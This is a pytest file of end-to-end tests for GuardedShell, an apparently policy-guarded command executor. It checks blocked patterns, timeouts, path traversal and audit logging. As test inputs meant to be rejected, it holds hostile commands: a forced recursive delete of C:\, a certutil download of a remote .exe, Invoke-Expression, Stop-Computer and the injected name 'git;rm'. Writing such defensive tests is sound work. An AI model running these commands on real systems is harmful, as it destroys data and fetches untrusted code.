"""End-to-end tests for GuardedShell operations."""

from __future__ import annotations

import os
import threading
from collections.abc import Sequence
from pathlib import Path

import pytest

from conftest import read_audit, requires_powershell
from psguard import (
    AuditLogger,
    ExecutionResult,
    ExecutionError,
    Executor,
    GuardedShell,
    InvalidParams,
    Interpreter,
    ProcessExecutor,
    SecurityPolicy,
    SecurityViolation,
    UnknownOperation,
)
from psguard.audit import AuditEntry
from psguard.shell import parse_request


class ForbiddenExecutor(Executor):
    """Fails the test if anything is spawned."""

    def __init__(self) -> None:
        self.calls = 0

    async def run(self, argv: Sequence[str], **kwargs: object) -> ExecutionResult:
        self.calls += 1
        raise AssertionError(f"unexpected spawn: {argv}")

    async def run_command(self, command: str, **kwargs: object) -> ExecutionResult:
        self.calls += 1
        raise AssertionError(f"unexpected spawn: {command}")

    async def run_script(self, script: str, **kwargs: object) -> ExecutionResult:
        self.calls += 1
        raise AssertionError("unexpected spawn of script")


class ThreadRecordingAudit(AuditLogger):
    """Remembers which thread wrote each entry."""

    def __init__(self) -> None:
        super().__init__(os.devnull, enabled=False)
        self.threads: list[int] = []

    def log(self, entry: AuditEntry) -> None:
        self.threads.append(threading.get_ident())


def operation_records(path: Path) -> list[dict]:
    return [r for r in read_audit(path) if r["event_type"] == "operation"]


class TestParseRequest:
    """Tests for parameter parsing and timeout defaults."""

    def test_command_defaults(self, standard_policy: SecurityPolicy) -> None:
        request = parse_request({"command": "git status"}, standard_policy, is_script=False)
        assert request.timeout_seconds == 30
        assert request.allow_shell_access is False
        assert request.working_directory is None
        assert request.environment_overrides == {}

    def test_script_defaults(self, standard_policy: SecurityPolicy) -> None:
        request = parse_request({"script": "git status"}, standard_policy, is_script=True)
        assert request.timeout_seconds == 60
        assert request.allow_shell_access is True
        assert request.operation == "execute_script"

    def test_timeout_is_clamped(self, standard_policy: SecurityPolicy) -> None:
        request = parse_request(
            {"command": "git status", "timeout": 10_000}, standard_policy, is_script=False
        )
        assert request.timeout_seconds == 300
        request = parse_request(
            {"script": "git status", "timeout": 10_000}, standard_policy, is_script=True
        )
        assert request.timeout_seconds == 600

    @pytest.mark.parametrize(
        "params",
        [
            {},
            {"command": 42},
            {"command": "git status", "timeout": "soon"},
            {"command": "git status", "timeout": True},
            {"command": "git status", "environment_vars": {"A": 1}},
            {"command": "git status", "environment_vars": ["A=1"]},
            {"command": "git status", "allow_shell_access": "yes"},
            {"command": "git status", "working_directory": 3},
        ],
    )
    def test_invalid_params(self, standard_policy: SecurityPolicy, params: dict) -> None:
        with pytest.raises(InvalidParams):
            parse_request(params, standard_policy, is_script=False)


class TestExecuteCommand:
    """Tests for execute_command."""

    async def test_runs_allowed_command(self, shell: GuardedShell, audit_path: Path) -> None:
        result = await shell.execute_command({"command": "echo hello"})
        assert result.exit_code == 0
        assert result.stdout == "hello\n"

        records = operation_records(audit_path)
        assert len(records) == 1
        assert records[0]["success"] is True
        assert records[0]["command"] == "echo hello"
        assert records[0]["user"] == "tester"
        assert records[0]["result"]["stdout"] == "hello\n"
        assert records[0]["security"] == {"valid": True}

    async def test_blocked_command_is_never_spawned(
        self, temp_dir: Path, standard_policy: SecurityPolicy, audit: AuditLogger, audit_path: Path
    ) -> None:
        executor = ForbiddenExecutor()
        shell = GuardedShell(standard_policy, root=temp_dir, executor=executor, audit=audit)

        with pytest.raises(SecurityViolation) as exc_info:
            await shell.execute_command({"command": "Remove-Item -Recurse -Force C:\\"})

        assert exc_info.value.rule == "blocked_pattern"
        assert exc_info.value.code == -32001
        assert executor.calls == 0

        records = operation_records(audit_path)
        assert len(records) == 1
        assert records[0]["success"] is False
        assert records[0]["error_code"] == -32001
        assert records[0]["error_type"] == "Security"
        assert records[0]["security"]["rule"] == "blocked_pattern"

    async def test_timeout(self, shell: GuardedShell, audit_path: Path) -> None:
        result = await shell.execute_command({"command": "sleep 5", "timeout": 1})
        assert result.timed_out
        assert result.duration_ms < 4000

        record = operation_records(audit_path)[-1]
        assert record["success"] is False
        assert record["error_type"] == "Timeout"
        assert record["error_code"] == -32002
        assert record["result"]["timed_out"] is True

    async def test_non_zero_exit_is_audited_as_failure(
        self, shell: GuardedShell, audit_path: Path
    ) -> None:
        result = await shell.execute_command({"command": "exit 4"})
        assert result.exit_code == 4

        record = operation_records(audit_path)[-1]
        assert record["success"] is False
        assert record["error_code"] == -32003
        assert record["error_type"] == "Execution"

    async def test_dangerous_environment_rejected(self, shell: GuardedShell) -> None:
        with pytest.raises(SecurityViolation) as exc_info:
            await shell.execute_command(
                {"command": "echo hi", "environment_vars": {"PATH": "/tmp/evil"}}
            )
        assert exc_info.value.rule == "dangerous_env_var"

    async def test_environment_override_reaches_process(self, shell: GuardedShell) -> None:
        result = await shell.execute_command(
            {"command": "printenv PSGUARD_VALUE", "environment_vars": {"PSGUARD_VALUE": "42"}}
        )
        assert result.stdout.strip() == "42"

    async def test_working_directory(self, shell: GuardedShell, temp_dir: Path) -> None:
        result = await shell.execute_command({"command": "pwd", "working_directory": "sub"})
        assert Path(result.stdout.strip()).resolve() == (temp_dir / "sub").resolve()

    async def test_default_working_directory_is_root(
        self, shell: GuardedShell, temp_dir: Path
    ) -> None:
        result = await shell.execute_command({"command": "pwd"})
        assert Path(result.stdout.strip()).resolve() == temp_dir.resolve()

    async def test_path_traversal_rejected(self, shell: GuardedShell) -> None:
        with pytest.raises(SecurityViolation) as exc_info:
            await shell.execute_command({"command": "pwd", "working_directory": "../"})
        assert exc_info.value.rule == "path_traversal"

    async def test_null_byte_working_directory_rejected(
        self, shell: GuardedShell, audit_path: Path
    ) -> None:
        with pytest.raises(SecurityViolation) as exc_info:
            await shell.execute_command({"command": "pwd", "working_directory": "sub\x00x"})
        assert exc_info.value.rule == "path_invalid"

        record = operation_records(audit_path)[-1]
        assert record["error_type"] == "Security"
        assert record["security"]["rule"] == "path_invalid"

    async def test_null_byte_environment_value_rejected(self, shell: GuardedShell) -> None:
        with pytest.raises(SecurityViolation) as exc_info:
            await shell.execute_command(
                {"command": "echo hi", "environment_vars": {"PSGUARD_VALUE": "a\x00b"}}
            )
        assert exc_info.value.rule == "env_var_value"

    async def test_shell_access_required_for_redirection(
        self, shell: GuardedShell, temp_dir: Path
    ) -> None:
        with pytest.raises(SecurityViolation) as exc_info:
            await shell.execute_command({"command": "echo hi > out.txt"})
        assert exc_info.value.rule == "shell_access"
        assert not (temp_dir / "out.txt").exists()

        await shell.execute_command({"command": "echo hi > out.txt", "allow_shell_access": True})
        assert (temp_dir / "out.txt").read_text() == "hi\n"

    async def test_unlisted_command_rejected(self, shell: GuardedShell) -> None:
        with pytest.raises(SecurityViolation) as exc_info:
            await shell.execute_command({"command": "cat test.txt"})
        assert exc_info.value.rule == "allowed_commands"

    async def test_zero_timeout_rejected(self, shell: GuardedShell) -> None:
        with pytest.raises(SecurityViolation) as exc_info:
            await shell.execute_command({"command": "echo hi", "timeout": 0})
        assert exc_info.value.rule == "timeout_positive"

    async def test_invalid_params_are_audited(self, shell: GuardedShell, audit_path: Path) -> None:
        with pytest.raises(InvalidParams):
            await shell.execute_command({"command": "echo hi", "timeout": "soon"})

        record = operation_records(audit_path)[-1]
        assert record["error_code"] == -32602
        assert record["error_type"] == "InvalidParams"
        assert record["command"] == "echo hi"

    async def test_validate_does_not_execute(self, shell: GuardedShell) -> None:
        request = parse_request({"command": "Stop-Computer"}, shell.policy, is_script=False)
        assert shell.validate(request).rule == "blocked_pattern"

    async def test_missing_interpreter_is_execution_error(
        self, temp_dir: Path, posix_policy: SecurityPolicy, audit: AuditLogger, audit_path: Path
    ) -> None:
        executor = ProcessExecutor(Interpreter.posix_shell("/nonexistent/psguard-sh"))
        shell = GuardedShell(posix_policy, root=temp_dir, executor=executor, audit=audit)
        with pytest.raises(ExecutionError):
            await shell.execute_command({"command": "echo hi"})

        record = operation_records(audit_path)[-1]
        assert record["error_code"] == -32003

    async def test_audit_writes_leave_the_event_loop(
        self, temp_dir: Path, standard_policy: SecurityPolicy
    ) -> None:
        audit = ThreadRecordingAudit()
        shell = GuardedShell(
            standard_policy, root=temp_dir, executor=ForbiddenExecutor(), audit=audit
        )
        with pytest.raises(SecurityViolation):
            await shell.execute_command({"command": "Stop-Computer"})
        assert len(audit.threads) == 1
        assert audit.threads[0] != threading.get_ident()

    async def test_closed_shell_refuses_work(self, shell: GuardedShell) -> None:
        await shell.close()
        with pytest.raises(RuntimeError):
            await shell.execute_command({"command": "echo hi"})


class TestExecuteScript:
    """Tests for execute_script."""

    async def test_runs_script(self, shell: GuardedShell, audit_path: Path) -> None:
        result = await shell.execute_script(
            {"script": "echo one\necho two", "script_name": "demo"}
        )
        assert result.stdout == "one\ntwo\n"
        assert result.lines_executed == 2
        assert result.script_name == "demo"

        record = operation_records(audit_path)[-1]
        assert record["operation"] == "execute_script"
        assert record["script"] == "echo one\necho two"
        assert record["command"] == ""

    async def test_dangerous_script_rejected(self, shell: GuardedShell, audit_path: Path) -> None:
        script = "$code = 'Get-Date'\nInvoke-Expression $code\n"
        with pytest.raises(SecurityViolation) as exc_info:
            await shell.execute_script({"script": script})
        assert exc_info.value.rule == "dangerous_constructs"

        record = operation_records(audit_path)[-1]
        assert record["error_code"] == -32001
        assert record["script"] == script

    async def test_inline_block_command_never_spawned(
        self, temp_dir: Path, standard_policy: SecurityPolicy, audit: AuditLogger
    ) -> None:
        executor = ForbiddenExecutor()
        shell = GuardedShell(standard_policy, root=temp_dir, executor=executor, audit=audit)
        script = "if ($true) { certutil -urlcache -f http://x/a.exe a.exe }\n"
        with pytest.raises(SecurityViolation) as exc_info:
            await shell.execute_script({"script": script})
        assert exc_info.value.rule == "allowed_commands"
        assert executor.calls == 0

    async def test_script_blocked_line(self, shell: GuardedShell) -> None:
        with pytest.raises(SecurityViolation) as exc_info:
            await shell.execute_script({"script": "echo ok\nStop-Computer\n"})
        assert exc_info.value.outcome.line == 2


class TestCheckCommandExists:
    """Tests for check_command_exists."""

    async def test_intrinsic(self, shell: GuardedShell) -> None:
        result = await shell.check_command_exists({"command": "Get-ChildItem"})
        assert result.exists
        assert result.path == "PowerShell: Get-ChildItem"

    async def test_on_path(self, shell: GuardedShell) -> None:
        result = await shell.check_command_exists({"command": "sh", "include_version": False})
        assert result.exists
        assert result.path

    async def test_missing(self, shell: GuardedShell, audit_path: Path) -> None:
        result = await shell.check_command_exists({"command": "psguard-no-such-tool"})
        assert not result.exists
        assert "not found" in (result.error or "")

        record = operation_records(audit_path)[-1]
        assert record["operation"] == "check_command_exists"
        assert record["success"] is False

    async def test_search_paths_first(self, shell: GuardedShell, temp_dir: Path) -> None:
        tool = temp_dir / "mytool.bat"
        tool.write_text("@echo off\n")
        result = await shell.check_command_exists(
            {"command": "mytool", "search_paths": [str(temp_dir)], "include_version": False}
        )
        assert result.exists
        assert Path(result.path).resolve() == tool.resolve()

    @pytest.mark.parametrize(
        ("search_path", "rule"),
        [("/", "path_restriction"), ("../", "path_traversal"), ("sub\x00", "path_invalid")],
    )
    async def test_search_paths_are_jailed(
        self,
        temp_dir: Path,
        standard_policy: SecurityPolicy,
        audit: AuditLogger,
        audit_path: Path,
        search_path: str,
        rule: str,
    ) -> None:
        executor = ForbiddenExecutor()
        shell = GuardedShell(standard_policy, root=temp_dir, executor=executor, audit=audit)
        with pytest.raises(SecurityViolation) as exc_info:
            await shell.check_command_exists({"command": "sh", "search_paths": [search_path]})
        assert exc_info.value.rule == rule
        assert executor.calls == 0

        record = operation_records(audit_path)[-1]
        assert record["operation"] == "check_command_exists"
        assert record["error_type"] == "Security"
        assert record["security"]["rule"] == rule

    async def test_relative_search_path_resolves_under_root(
        self, shell: GuardedShell, temp_dir: Path
    ) -> None:
        tool = temp_dir / "sub" / "mytool.cmd"
        tool.write_text("@echo off\n")
        result = await shell.check_command_exists(
            {"command": "mytool", "search_paths": ["sub"], "include_version": False}
        )
        assert result.exists
        assert Path(result.path).resolve() == tool.resolve()

    async def test_unlisted_tool_is_not_run_for_version(
        self, temp_dir: Path, standard_policy: SecurityPolicy, audit: AuditLogger
    ) -> None:
        (temp_dir / "dropper.exe").write_text("MZ")
        executor = ForbiddenExecutor()
        shell = GuardedShell(standard_policy, root=temp_dir, executor=executor, audit=audit)
        result = await shell.check_command_exists(
            {"command": "dropper", "search_paths": [str(temp_dir)]}
        )
        assert result.exists
        assert result.version is None
        assert executor.calls == 0

    @pytest.mark.parametrize("name", ["git;rm", "../bin/sh", "a b", ""])
    async def test_invalid_name(self, shell: GuardedShell, name: str) -> None:
        with pytest.raises(InvalidParams):
            await shell.check_command_exists({"command": name})


class TestApplyOperations:
    """Tests for batch execution."""

    async def test_mixed_batch(self, shell: GuardedShell) -> None:
        results = await shell.apply_operations([
            {"type": "execute_command", "command": "echo a"},
            {"type": "execute_command", "command": "Invoke-Expression x"},
            {"type": "bogus"},
            {"type": "execute_command", "command": "exit 2"},
            "not an operation",
        ])

        assert [r["status"] for r in results] == ["Success", "Error", "Error", "Error", "Error"]

        assert results[0]["operation"] == "execute_command"
        assert results[0]["params"] == {"command": "echo a"}
        assert results[0]["result"]["stdout"] == "a\n"

        assert results[1]["error_code"] == -32001
        assert results[1]["details"]["rule"] == "blocked_pattern"

        assert results[2]["error_code"] == -32601
        assert results[2]["operation"] == "bogus"

        assert results[3]["error_code"] == -32003
        assert results[3]["result"]["exit_code"] == 2

        assert results[4]["operation"] == "unknown"
        assert results[4]["error_code"] == -32602

    async def test_concurrent_batch_keeps_order(self, shell: GuardedShell) -> None:
        results = await shell.apply_operations(
            [{"type": "execute_command", "command": f"echo {i}"} for i in range(5)],
            concurrent=True,
        )
        assert [r["result"]["stdout"] for r in results] == [f"{i}\n" for i in range(5)]

    async def test_null_byte_item_does_not_abort_batch(self, shell: GuardedShell) -> None:
        results = await shell.apply_operations([
            {"type": "execute_command", "command": "echo a", "working_directory": "sub\x00"},
            {
                "type": "execute_command",
                "command": "echo b",
                "environment_vars": {"PSGUARD_VALUE": "\x00"},
            },
            {"type": "execute_command", "command": "echo c"},
        ])
        assert [r["status"] for r in results] == ["Error", "Error", "Success"]
        assert results[0]["details"]["rule"] == "path_invalid"
        assert results[1]["details"]["rule"] == "env_var_value"
        assert results[2]["result"]["stdout"] == "c\n"

    async def test_empty_batch_rejected(self, shell: GuardedShell) -> None:
        with pytest.raises(InvalidParams):
            await shell.apply_operations([])

    async def test_unknown_operation_dispatch(self, shell: GuardedShell) -> None:
        with pytest.raises(UnknownOperation):
            await shell.execute("format_disk", {})

    async def test_operations(self, shell: GuardedShell) -> None:
        assert shell.operations == ["execute_command", "execute_script", "check_command_exists"]


@requires_powershell
class TestPowerShell:
    """Tests against a real PowerShell interpreter."""

    @pytest.fixture
    def pwsh_shell(
        self, temp_dir: Path, standard_policy: SecurityPolicy, audit: AuditLogger
    ) -> GuardedShell:
        return GuardedShell(
            standard_policy,
            root=temp_dir,
            executor=ProcessExecutor(Interpreter.powershell()),
            audit=audit,
        )

    async def test_get_child_item(
        self, pwsh_shell: GuardedShell, temp_dir: Path, audit_path: Path
    ) -> None:
        (temp_dir / "marker.txt").write_text("x")
        result = await pwsh_shell.execute_command({"command": "Get-ChildItem"})
        assert result.exit_code == 0
        assert "marker.txt" in result.stdout

        record = operation_records(audit_path)[-1]
        assert record["success"] is True

    async def test_script(self, pwsh_shell: GuardedShell) -> None:
        script = "$items = Get-ChildItem\nWrite-Output \"count: $($items.Count)\"\n"
        result = await pwsh_shell.execute_script({"script": script})
        assert result.exit_code == 0
        assert "count:" in result.stdout

    async def test_timeout(self, pwsh_shell: GuardedShell) -> None:
        result = await pwsh_shell.execute_command({"command": "Start-Sleep 10", "timeout": 1})
        assert result.timed_out
